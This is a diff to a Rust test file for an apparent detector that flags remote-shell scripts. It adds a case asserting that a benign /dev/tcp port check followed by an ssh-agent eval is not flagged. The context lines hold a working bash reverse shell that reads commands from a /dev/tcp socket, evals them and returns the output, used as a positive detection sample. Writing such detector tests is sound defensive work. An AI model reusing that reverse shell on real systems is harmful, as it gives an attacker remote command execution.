@@ -303,6 +303,10 @@ fn a_ruby_shell_and_a_bash_shell_on_a_handle_of_its_own_are_found() {
     assert_eq!(whys(ruby), [Why::RemoteShell]);
     let bash = "#!/bin/bash\nexec 3<> /dev/tcp/\"$ip\"/\"$po\"\nwhile IFS= read -r -u 3 -p \"$ \"; do\n  out=$(eval \"$REPLY\")\n  echo \"$out\" >&3\ndone\n";
     assert_eq!(whys(bash), [Why::RemoteShell]);
+    // A port check opens one and reads the answer, and runs nothing it reads (regression
+    // (review): not even beside an `eval` of its own further on).
+    let check_far = "#!/bin/bash\nexec 3<> /dev/tcp/example.org/80\nread -r -u 3 status\necho \"$status\"\n# the backup\n# is made next\n# over ssh, with the agent the eval below starts,\n# after the port was seen open, once a day, from the crontab of the account's owner.\n\n\neval \"$(ssh-agent -s)\"\n";
+    assert!(whys(check_far).is_empty(), "{:?}", whys(check_far));
     // A port check opens one and reads the answer, and runs nothing it reads.
     let check = "#!/bin/bash\nexec 3<> /dev/tcp/example.org/80\necho -e \"HEAD / HTTP/1.0\\r\\n\" >&3\nread -r -u 3 status\necho \"$status\"\n";
     assert!(whys(check).is_empty(), "{:?}", whys(check));
